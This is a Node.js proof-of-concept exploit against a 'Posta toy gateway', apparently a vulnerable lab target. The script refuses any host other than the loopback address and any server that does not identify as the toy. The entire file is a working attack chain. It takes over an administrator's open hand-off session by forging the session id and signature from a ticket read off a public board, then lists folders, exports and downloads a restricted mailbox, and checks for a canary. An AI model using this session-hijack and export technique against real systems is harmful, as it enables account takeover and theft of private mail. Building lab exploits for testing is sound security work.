#!/usr/bin/env node
// Proof of concept for the hand-off flaw of the Posta toy gateway.
//
// Exit status: 0 canary read, 1 not vulnerable or failed, 2 not a local Posta.

import { createHash, createHmac, randomBytes } from 'node:crypto';
import http from 'node:http';
import { parseArgs } from 'node:util';

const LOOPBACK = '127.0.0.1';
const SERVER_PREFIX = 'posta-toy/';
const MAX_BODY = 1024 * 1024;
const TIMEOUT_MS = 15_000;
const CANARY_PATTERN = /posta canary [0-9A-Za-z-]+/;

const USAGE = `usage: port.mjs --port PORT [--host HOST] [--role ROLE] [--folder FOLDER] [--keep] [--json]

  --host HOST      127.0.0.1 only
  --port PORT      where Posta listens
  --role ROLE      whose hand-off (default: administrator)
  --folder FOLDER  what to export (default: restricted)
  --keep           leave the draft behind
  --json           print one JSON object`;

/** The target is not a Posta on this machine. */
class RefusedError extends Error {}

/** The gateway did not do what the attack needs. */
class FailedError extends Error {}

// --- small helpers ---------------------------------------------------------

const percentEncode = (value) =>
  encodeURIComponent(value).replace(
    /[!'()*]/g,
    (char) => `%${char.charCodeAt(0).toString(16).toUpperCase()}`,
  );

const encodePath = (value) => String(value).split('/').map(percentEncode).join('/');

const withQuery = (path, params) => {
  const query = Object.entries(params)
    .map(([key, value]) => `${percentEncode(key)}=${percentEncode(value)}`)
    .join('&');
  return `${path}?${query}`;
};

const need = (object, key) => {
  const value = object?.[key];
  if (value === undefined) throw new FailedError(`the answer has no "${key}"`);
  return value;
};

let requestCount = 0;
const requestId = () => {
  requestCount += 1;
  return `req-${String(requestCount).padStart(3, '0')}-${randomBytes(5).toString('hex')}`;
};

const freshNonce = () => {
  // 2024-01-02T03:04:05.678Z -> 20240102T030405Z
  const stamp = new Date().toISOString().replace(/[-:]|\.\d+/g, '');
  return `${stamp}.${randomBytes(6).toString('hex')}`;
};

const sessionFor = (ticket) =>
  `lnk-${createHash('md5').update(ticket).digest('base64url').toLowerCase()}`;

const signatureFor = (ticket, nonce) =>
  createHmac('sha384', ticket).update(`transfer:${nonce}`).digest('hex').slice(0, 39);

// --- the gateway -----------------------------------------------------------

class Reply {
  constructor(status, text) {
    this.status = status;
    this.text = text;
  }

  get ok() {
    return this.status < 400;
  }

  expect(what) {
    if (!this.ok) {
      throw new FailedError(`${what}: status ${this.status} ${this.text.slice(0, 80)}`);
    }
    return this;
  }

  json() {
    let value;
    try {
      value = JSON.parse(this.text);
    } catch {
      throw new FailedError(`no JSON in an answer with status ${this.status}`);
    }
    if (value === null || typeof value !== 'object') {
      throw new FailedError('the answer is not a JSON object');
    }
    return value;
  }
}

class Posta {
  #host;
  #port;
  #pass = null;

  constructor(host, port) {
    if (![LOOPBACK, 'localhost'].includes(host.trim().toLowerCase())) {
      throw new RefusedError(`${host}: only a Posta on ${LOOPBACK} is allowed`);
    }
    if (!Number.isInteger(port) || port < 1 || port > 65535) {
      throw new RefusedError(`${port}: no such port`);
    }
    this.#host = LOOPBACK;
    this.#port = port;
  }

  /** Sends one request on a connection of its own. */
  async #send(method, path, { headers = {}, body } = {}) {
    let response;
    const chunks = [];
    let length = 0;
    try {
      response = await new Promise((resolve, reject) => {
        const request = http.request(
          { host: this.#host, port: this.#port, method, path, headers, agent: false },
          resolve,
        );
        request.setTimeout(TIMEOUT_MS, () => request.destroy(new Error('timed out')));
        request.on('error', reject);
        request.end(body);
      });
      for await (const chunk of response) {
        chunks.push(chunk);
        length += chunk.length;
        if (length > MAX_BODY) break; // leaving the loop destroys the response
      }
    } catch (error) {
      throw new FailedError(`${method} ${path}: ${error.message || error.code}`);
    }
    if (!(response.headers.server ?? '').startsWith(SERVER_PREFIX)) {
      throw new RefusedError(`${this.#host}:${this.#port} does not answer as Posta`);
    }
    if (length > MAX_BODY) throw new FailedError(`${path}: the answer is too long`);
    return new Reply(response.statusCode, Buffer.concat(chunks).toString('utf8'));
  }

  #clientHeaders() {
    return {
      'User-Agent': 'handoff-check/0.9',
      'X-Posta-Client': 'widget',
      'X-Request-Id': requestId(),
      'Accept-Language': 'fr-CA',
    };
  }

  #passHeaders() {
    return { ...this.#clientHeaders(), Authorization: `Badge ${this.#pass}` };
  }

  async status() {
    const path = withQuery('/status', { probe: 'ping', id: requestId() });
    const answer = (await this.#send('GET', path)).expect('status').json();
    if (answer.toy !== true) throw new RefusedError('this Posta is not the toy');
    return answer.waiting ?? 0;
  }

  async board() {
    const path = withQuery('/board', { audience: 'personnel', id: requestId() });
    const reply = await this.#send('GET', path, { headers: this.#clientHeaders() });
    return reply.expect('board').json().waiting ?? [];
  }

  /** Takes over the session of a ticket; later calls use the pass it yields. */
  async adopt(ticket) {
    const nonce = freshNonce();
    const form = new URLSearchParams({
      ticket,
      session: sessionFor(ticket),
      scope: 'campus',
      mode: 'adopt',
      durable: '1',
      reason: 'rebalancing',
    });
    const reply = await this.#send('POST', '/door/handoff', {
      headers: {
        ...this.#clientHeaders(),
        'X-Posta-Nonce': nonce,
        'X-Posta-Signature': signatureFor(ticket, nonce),
        'Content-Type': 'application/x-www-form-urlencoded',
      },
      body: form.toString(),
    });
    const grant = reply.expect('hand-off').json();
    if (!grant.pass) throw new FailedError('the hand-off gave no pass');
    this.#pass = grant.pass;
    return grant;
  }

  async folders() {
    const path = withQuery('/classic/folders', { view: 'brief', id: requestId() });
    const reply = await this.#send('GET', path, {
      headers: { ...this.#passHeaders(), Accept: 'application/vnd.posta.register+json' },
    });
    return reply.expect('folders').json().folders ?? [];
  }

  async saveDraft(text) {
    const boundary = `ContentEdge${randomBytes(8).toString('hex')}`;
    const body = [
      `--${boundary}`,
      'Content-Disposition: form-data; name="passage"',
      '',
      text,
      `--${boundary}--`,
      '',
    ].join('\r\n');
    const reply = await this.#send('POST', '/drafts', {
      headers: {
        ...this.#passHeaders(),
        'Content-Type': `multipart/form-data; boundary=${boundary}`,
        'X-Posta-Priority': 'regular',
      },
      body,
    });
    return need(reply.expect('draft').json(), 'draft');
  }

  async messages(folder) {
    const path = withQuery('/messages', { folder, order: 'alphabetical', channel: 'socket' });
    const reply = await this.#send('QUERY', path, { headers: this.#passHeaders() });
    return reply.expect('messages').json().messages ?? [];
  }

  async startExport(folder) {
    const reply = await this.#send('POST', '/governance/export', {
      headers: { ...this.#passHeaders(), 'Content-Type': 'application/json' },
      body: JSON.stringify({ folder, depth: 'flat', consent: 'issued', format: 'mh' }),
    });
    const answer = reply.expect('export').json();
    return { job: need(answer, 'job'), total: need(answer, 'mails') };
  }

  async downloadExport(job) {
    const path = withQuery(`/export/${encodePath(job)}`, {
      source: 'repository',
      id: requestId(),
    });
    const reply = await this.#send('GET', path, {
      headers: { ...this.#clientHeaders(), Cookie: `mailsid=${this.#pass}` },
    });
    return reply.expect('export file').text;
  }

  async purge(mail) {
    const path = withQuery(`/purge/${encodePath(mail)}`, { acting: 'owner', commit: 'lazy' });
    const reply = await this.#send('PUT', path, { headers: this.#passHeaders() });
    return reply.expect('purge').json().purged ?? 0;
  }

  async close() {
    const reply = await this.#send('POST', '/close', {
      headers: {
        ...this.#passHeaders(),
        'Content-Type': 'application/x-www-form-urlencoded',
      },
      body: new URLSearchParams({ outcome: 'released', id: requestId() }).toString(),
    });
    return reply.ok;
  }
}

// --- choosing and reading --------------------------------------------------

function oldestTicket(waiting, role) {
  const candidates = waiting.filter((entry) => entry.role === role);
  if (candidates.length === 0) throw new FailedError(`no ${role} has a hand-off open`);
  const oldest = candidates.reduce((best, entry) =>
    need(entry, 'since') < need(best, 'since') ? entry : best,
  );
  return need(oldest, 'ticket');
}

function chooseFolder(folders, wanted) {
  if (folders.length === 0) throw new FailedError('the account has no folders');
  if (folders.some((folder) => need(folder, 'name') === wanted)) return wanted;
  return folders.reduce((best, folder) =>
    need(folder, 'count') > need(best, 'count') ? folder : best,
  ).name;
}

function parseMails(text) {
  return text
    .split(/(?<![^\n])From [^\n]*\n/)
    .slice(1)
    .map((block) => {
      const gap = block.indexOf('\n\n');
      const head = gap < 0 ? block : block.slice(0, gap);
      const body = gap < 0 ? '' : block.slice(gap + 2).trim();
      const headers = new Map();
      for (const line of head.split(/\r\n|\r|\n/)) {
        const colon = line.indexOf(': ');
        if (colon >= 0) headers.set(line.slice(0, colon).toLowerCase(), line.slice(colon + 2));
      }
      return { subject: headers.get('subject') ?? '', body };
    });
}

function findCanary(mails) {
  for (const { body } of mails) {
    const match = CANARY_PATTERN.exec(body);
    if (match) return match[0];
  }
  return null;
}

// --- the program -----------------------------------------------------------

async function attack(posta, { role, folder: wanted, keep }) {
  const waiting = await posta.status();
  const grant = await posta.adopt(oldestTicket(await posta.board(), role));
  const folder = chooseFolder(await posta.folders(), wanted);
  const draft = await posta.saveDraft('Posta hand-off test');
  const listing = await posta.messages(folder);
  const { job, total } = await posta.startExport(folder);
  const mails = parseMails(await posta.downloadExport(job));
  if (mails.length < total || mails.length < listing.length) {
    throw new FailedError('the export is shorter than the folder');
  }
  const purged = keep ? 0 : await posta.purge(draft);
  const closed = await posta.close();
  return {
    waiting,
    account: grant.who ?? '?',
    folder,
    subjects: mails.map((mail) => mail.subject).join('; '),
    purged,
    closed,
    canary: findCanary(mails),
  };
}

function show(result, asJson) {
  if (asJson) {
    console.log(JSON.stringify(result, null, 2));
    return;
  }
  const width = Math.max(...Object.keys(result).map((name) => name.length));
  for (const [name, value] of Object.entries(result)) {
    console.log(`${name.padEnd(width)}  ${value}`);
  }
}

function readOptions(args) {
  const { values } = parseArgs({
    args,
    options: {
      host: { type: 'string', default: LOOPBACK },
      port: { type: 'string' },
      role: { type: 'string', default: 'administrator' },
      folder: { type: 'string', default: 'restricted' },
      keep: { type: 'boolean', default: false },
      json: { type: 'boolean', default: false },
      help: { type: 'boolean', short: 'h', default: false },
    },
  });
  if (values.help) return values;
  if (values.port === undefined) throw new TypeError('--port is required');
  if (!/^-?\d+$/.test(values.port)) throw new TypeError(`--port: not a number: ${values.port}`);
  return { ...values, port: Number(values.port) };
}

async function main(args) {
  let options;
  try {
    options = readOptions(args);
  } catch (error) {
    console.error(`${USAGE}\n\nerror: ${error.message}`);
    return 2;
  }
  if (options.help) {
    console.log(USAGE);
    return 0;
  }
  try {
    const result = await attack(new Posta(options.host, options.port), options);
    show(result, options.json);
    return result.canary ? 0 : 1;
  } catch (error) {
    if (error instanceof RefusedError) {
      console.error(`refused: ${error.message}`);
      return 2;
    }
    if (error instanceof FailedError) {
      console.error(`failed: ${error.message}`);
      return 1;
    }
    throw error;
  }
}

process.exitCode = await main(process.argv.slice(2));
